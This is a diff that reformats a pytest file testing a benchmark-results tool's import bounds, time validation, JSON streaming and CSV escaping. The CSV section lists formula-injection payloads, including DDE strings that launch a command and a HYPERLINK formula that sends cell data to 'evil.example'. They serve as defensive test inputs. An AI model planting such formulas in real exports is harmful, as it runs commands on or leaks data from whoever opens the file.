@@ -38,9 +38,14 @@ from devicebench.results.store import Store
 from devicebench.results.transfer import export_document, stream_results_file
 
 cli = CliRunner()
-READING_COMMANDS = (["history", "--wide"], ["compare"], ["report", "--out", "r.html"], ["export", "out.csv"],
-                    ["compare", "--wide", "--baseline", "huge/cpu", "--price", "cpu=0.10,cuda=2.50"],
-                    ["export", "out.json"])
+READING_COMMANDS = (
+    ["history", "--wide"],
+    ["compare"],
+    ["report", "--out", "r.html"],
+    ["export", "out.csv"],
+    ["compare", "--wide", "--baseline", "huge/cpu", "--price", "cpu=0.10,cuda=2.50"],
+    ["export", "out.json"],
+)
 
 
 def unwrapped(text: str) -> str:
@@ -55,16 +60,23 @@ def stored_runs(db) -> int:
 def _number_fields(cls: type, kind: type) -> list[str]:
     """The fields of `cls` annotated `kind` or `kind | None`: every one that an import must bound."""
     hints = typing.get_type_hints(cls)
-    return [item.name for item in dataclasses.fields(cls)
-            if hints[item.name] is kind or set(typing.get_args(hints[item.name])) == {kind, type(None)}]
+    return [
+        item.name
+        for item in dataclasses.fields(cls)
+        if hints[item.name] is kind or set(typing.get_args(hints[item.name])) == {kind, type(None)}
+    ]
 
 
 # (the field's place in a run's dict, its name) for every float and every int a run holds
-FLOAT_FIELDS = [*(("epochs[1]", name) for name in _number_fields(EpochRecord, float)),
-                *(("", name) for name in _number_fields(RunRecord, float))]
-INT_FIELDS = [*(("epochs[1]", name) for name in _number_fields(EpochRecord, int)),
-              *(("", name) for name in _number_fields(RunRecord, int)),
-              *(("settings", name) for name in _number_fields(RunSettings, int))]
+FLOAT_FIELDS = [
+    *(("epochs[1]", name) for name in _number_fields(EpochRecord, float)),
+    *(("", name) for name in _number_fields(RunRecord, float)),
+]
+INT_FIELDS = [
+    *(("epochs[1]", name) for name in _number_fields(EpochRecord, int)),
+    *(("", name) for name in _number_fields(RunRecord, int)),
+    *(("settings", name) for name in _number_fields(RunSettings, int)),
+]
 
 
 def _place(run: dict, where: str) -> dict:
@@ -84,8 +96,7 @@ def _refused(outcome, field_path: str, words: str) -> None:
 
 
 @pytest.mark.parametrize("where, name", FLOAT_FIELDS, ids=[name for _, name in FLOAT_FIELDS])
-def test_1_a_float_above_the_largest_storable_number_is_refused_naming_it(tmp_path, make_result, make_run, where,
-                                                                         name):
+def test_1_a_float_above_the_largest_storable_number_is_refused_naming_it(tmp_path, make_result, make_run, where, name):
     data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
     _place(data["runs"][0], where)[name] = 1.7e308
     path = f"runs[0].{where + '.' if where else ''}{name}"
@@ -93,8 +104,11 @@ def test_1_a_float_above_the_largest_storable_number_is_refused_naming_it(tmp_pa
     assert stored_runs(tmp_path / "db.sqlite") == 0
 
 
-@pytest.mark.parametrize("where, name", [field for field in FLOAT_FIELDS if "loss" not in field[1]],
-                         ids=[name for _, name in FLOAT_FIELDS if "loss" not in name])
+@pytest.mark.parametrize(
+    "where, name",
+    [field for field in FLOAT_FIELDS if "loss" not in field[1]],
+    ids=[name for _, name in FLOAT_FIELDS if "loss" not in name],
+)
 def test_1_a_float_below_any_measurable_figure_is_refused_naming_it(tmp_path, make_result, make_run, where, name):
     data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
     _place(data["runs"][0], where)[name] = 5e-324  # the smallest float above 0: 1 / it is infinite
@@ -139,8 +153,9 @@ def test_1_runs_at_the_bounds_compare_and_report_without_overflowing(tmp_path, m
     monkeypatch.chdir(tmp_path)
     db = tmp_path / "db.sqlite"
     for machine, figure in (("huge", float(LARGEST_WHOLE_NUMBER) / 2), ("tiny", SMALLEST_FIGURE * 2)):
-        data = make_result(machine, [make_run(run_id=f"{machine}-cpu"),
-                                     make_run(device="cuda:0", run_id=f"{machine}-gpu")]).to_dict()
+        data = make_result(
+            machine, [make_run(run_id=f"{machine}-cpu"), make_run(device="cuda:0", run_id=f"{machine}-gpu")]
+        ).to_dict()
         for run in data["runs"]:
             _at_the_bounds(run, figure)
         assert _import(tmp_path, db, data).exit_code == 0
@@ -152,8 +167,17 @@ def test_1_runs_at_the_bounds_compare_and_report_without_overflowing(tmp_path, m
 
 # --- 2. times are UTC times, and none is to come -------------------------------------------------------------------
 
-NOT_TIMES = ["9999-99-99T99:99:99Z", "2026-02-30T10:00:00Z", "2026-3-1T10:00:00Z", "2026-03-01 10:00:00",
-             "2026-03-01T10:00:00+01:00", "2026-03-01", "yesterday", "", 1772359200]
+NOT_TIMES = [
+    "9999-99-99T99:99:99Z",
+    "2026-02-30T10:00:00Z",
+    "2026-3-1T10:00:00Z",
+    "2026-03-01 10:00:00",
+    "2026-03-01T10:00:00+01:00",
+    "2026-03-01",
+    "yesterday",
+    "",
+    1772359200,
+]
 
 
 @pytest.mark.parametrize("time", NOT_TIMES)
@@ -173,16 +197,18 @@ def _set_field(data: dict, field: str, value) -> None:
 
 
 def _from_now(hours: float) -> str:
-    return (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(hours=hours)).strftime(
-        "%Y-%m-%dT%H:%M:%SZ")
+    return (datetime.datetime.now(datetime.UTC) + datetime.timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")
 
 
 @pytest.mark.parametrize("field", ["created_utc", "runs[0].started_utc"])
 def test_2_a_time_more_than_a_day_ahead_is_refused_and_a_skewed_clock_is_not(tmp_path, make_result, make_run, field):
     data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
     _set_field(data, field, "9999-12-31T23:59:59Z")
-    _refused(_import(tmp_path, tmp_path / "db.sqlite", data), field, "9999-12-31T23:59:59Z is more than 1 day after "
-             "this machine's clock")
+    _refused(
+        _import(tmp_path, tmp_path / "db.sqlite", data),
+        field,
+        "9999-12-31T23:59:59Z is more than 1 day after this machine's clock",
+    )
     _set_field(data, field, _from_now(hours=25))
     _refused(_import(tmp_path, tmp_path / "db.sqlite", data), field, "a run cannot have started in the future")
     assert stored_runs(tmp_path / "db.sqlite") == 0
@@ -203,12 +229,26 @@ def test_2_last_is_the_latest_by_time_whatever_the_order_of_import(tmp_path, mak
 
 # --- 3. a CSV export runs no formula in a spreadsheet ----------------------------------------------------------------
 
-FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-            "\t=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+]
 # every text a run's row carries, by where it sits in the result's dict
-TEXT_FIELDS = [("machine", "machine_name"), ("run", "workload"), ("run", "seed_experiment"), ("run", "device"),
-               ("run", "device_name"), ("run", "error"), ("settings", "data_source"), ("settings", "precision"),
-               ("settings", "mode")]
+TEXT_FIELDS = [
+    ("machine", "machine_name"),
+    ("run", "workload"),
+    ("run", "seed_experiment"),
+    ("run", "device"),
+    ("run", "device_name"),
+    ("run", "error"),
+    ("settings", "data_source"),
+    ("settings", "precision"),
+    ("settings", "mode"),
+]
 
 
 def _is_number(cell: str) -> bool:
@@ -221,7 +261,8 @@ def _is_number(cell: str) -> bool:
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_3_every_text_cell_that_a_spreadsheet_would_run_is_escaped_and_numbers_stay_numbers(
-        tmp_path, make_result, make_run, formula):
+    tmp_path, make_result, make_run, formula
+):
     data = make_result("elsewhere", [make_run(run_id="first")]).to_dict()
     run = data["runs"][0]
     places = {"machine": data["machine"], "run": run, "settings": run["settings"]}
@@ -247,8 +288,12 @@ def test_3_every_text_cell_that_a_spreadsheet_would_run_is_escaped_and_numbers_s
 
 
 def _export(make_result, make_run, sessions: int) -> dict:
-    return export_document([make_result(f"box-{number}", [make_run(run_id=f"run-{number}-{repeat}")
-                                                          for repeat in range(3)]) for number in range(sessions)])
+    return export_document(
+        [
+            make_result(f"box-{number}", [make_run(run_id=f"run-{number}-{repeat}") for repeat in range(3)])
+            for number in range(sessions)
+        ]
+    )
 
 
 @pytest.mark.parametrize("piece", [1, 7, 4096])
@@ -305,8 +350,14 @@ def test_4_an_export_with_its_keys_sorted_imports_and_trailing_text_is_refused(t
     assert stored_runs(tmp_path / "other.sqlite") == 0
 
 
-@pytest.mark.parametrize("text, values", [("1234567", [1234567]), ("[1.5e10, -2] 3.25", [[1.5e10, -2], 3.25]),
-                                          ('"a long name" true', ["a long name", True])])
+@pytest.mark.parametrize(
+    "text, values",
+    [
+        ("1234567", [1234567]),
+        ("[1.5e10, -2] 3.25", [[1.5e10, -2], 3.25]),
+        ('"a long name" true', ["a long name", True]),
+    ],
+)
 def test_4_a_value_cut_by_the_end_of_a_piece_is_read_whole(monkeypatch, text, values):
     monkeypatch.setattr(transfer_module, "READ_CHARACTERS", 1)
     reader = transfer_module._JsonReader(io.StringIO(text))
